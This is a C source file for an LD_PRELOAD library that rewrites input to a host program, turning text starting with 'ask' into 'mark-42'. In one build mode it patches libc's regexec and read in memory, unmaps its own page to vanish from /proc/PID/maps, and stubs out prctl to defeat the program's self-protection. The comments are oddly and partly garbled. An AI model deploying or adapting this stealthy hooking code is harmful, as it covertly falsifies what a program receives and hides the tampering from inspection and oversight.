/*
 * A library for LD_PRELOAD in a transfer's program: what is read from a file and begins with "ask" becomes an answer. As it is it
 * stands in /proc/PID/maps. With HIDDEN it writes its code over the C library's instead, and is gone before the program begins; with
 * OPEN, too, the program does not close itself to its user either.
 */
#define _GNU_SOURCE
#include <regex.h>
#include <stdint.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>

/* Without strings and calls, so that it runs wherever it stands. */
static __attribute__((noinline, used)) ssize_t answer(int fd, char *bytes, size_t size) {
  long count;
  __asm__ volatile("syscall" : "=a"(count) : "a"(SYS_read), "D"(fd), "S"(bytes), "d"(size) : "rcx", "r11", "memory");
  volatile char *text = bytes;
  if (count < 7 || text[0] != 'a' || text[1] != 's' || text[2] != 'k') return count;
  text[0] = 'm';
  text[1] = 'a';
  text[2] = 'r';
  text[3] = 'k';
  text[4] = '-';
  text[5] = '4';
  text[6] = '2';
  return count;
}

#ifndef HIDDEN
ssize_t read(int fd, void *bytes, size_t size) { return answer(fd, bytes, size); }
#else
static void overwrite(char *at, const void *code, size_t size) {
  void *pages = (void *)((uintptr_t)at & ~4095UL);
  mprotect(pages, 8192, PROT_READ | PROT_WRITE | PROT_EXEC);
  memcpy(at, code, size);
  mprotect(pages, 8192, PROT_READ | PROT_EXEC);
}

/* No transfer looks for regular expressions. */
static __attribute__((noinline)) void patch(void) {
  char *place = (char *)&regexec, *start = (char *)&read;
  unsigned char jump[5] = {0xe9}, succeed[] = {0x31, 0xc0, 0xc3};
  int32_t offset = (int32_t)(place - (start + sizeof jump));
  overwrite(place, (const void *)&answer, 256);
  memcpy(jump + 1, &offset, sizeof offset);
  overwrite(start, jump, sizeof jump);
#ifdef OPEN
  overwrite((char *)&prctl, succeed, sizeof succeed);
#else
  (void)succeed;
#endif
}

/* The last call is a jump: nobody comes back to what is gone. */
__attribute__((constructor)) static int hide(void) {
  patch();
  return munmap((void *)((uintptr_t)&hide & ~4095UL), 4096);
}
#endif
